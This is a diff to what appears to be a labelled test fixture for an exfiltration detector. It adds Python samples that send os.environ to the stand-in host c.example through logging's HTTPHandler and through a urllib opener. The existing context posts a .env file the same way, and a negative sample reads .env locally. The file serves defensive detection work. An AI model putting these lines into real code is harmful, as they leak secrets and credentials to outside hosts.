@@ -20,6 +20,14 @@ urllib.request.urlopen("http://localhost/")
 #@ pos a project's .env posted
 import urllib.request
 urllib.request.urlopen("https://c.example/u", data=open(".env", "rb").read())
+#@ pos environment as a log record sent by logging's HTTPHandler
+import logging, logging.handlers, os
+log = logging.getLogger("x")
+log.addHandler(logging.handlers.HTTPHandler("c.example:443", "/in", method="POST", secure=True))
+log.warning("%r", dict(os.environ))
+#@ pos environment through an opener
+import os, urllib.request
+urllib.request.build_opener().open("http://c.example/", data=repr(os.environ.copy()).encode())
 #@ neg a .env read into settings, no network
 import pathlib
 settings = dict(l.split("=", 1) for l in pathlib.Path(".env").read_text().splitlines() if "=" in l)
